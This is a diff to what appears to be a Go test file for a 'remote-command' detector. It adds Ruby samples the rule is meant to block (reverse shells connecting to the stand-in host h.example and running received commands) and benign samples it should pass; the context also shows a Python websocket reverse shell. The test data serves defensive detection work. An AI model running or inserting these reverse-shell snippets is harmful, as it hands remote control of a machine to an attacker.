@@ -44,6 +44,16 @@ var loadSamples = []sample{
 		},
 	},
 	{
+		rule: "remote-command", lang: "ruby",
+		block: []string{
+			"require 'socket'\nc = TCPSocket.new('h.example', 4444)\nwhile cmd = c.gets\n  IO.popen(cmd, 'r') { |io| c.print io.read }\nend", "require 'socket'\ns = TCPSocket.open('h.example', 1)\nsystem(s.gets, out: s)",
+			"require 'socket'\ns = Socket.tcp('h.example', 1)\nloop { spawn(line, 'x') }",
+		},
+		pass: []string{
+			"require 'socket'\ns = TCPSocket.new('localhost', 80)\ns.puts 'GET / HTTP/1.0'\nputs s.read", "IO.popen(cmd, 'r') { |io| puts io.read }", "require 'socket'\nputs Socket.gethostname\nsystem('ls', '-l')",
+		},
+	},
+	{
 		rule: "remote-command", lang: "python",
 		block: []string{
 			"import websocket, subprocess\ndef on_message(ws, m):\n    ws.send(subprocess.run(m, shell=True, capture_output=True).stdout)\nwebsocket.WebSocketApp('ws://h.example', on_message=on_message).run_forever()",
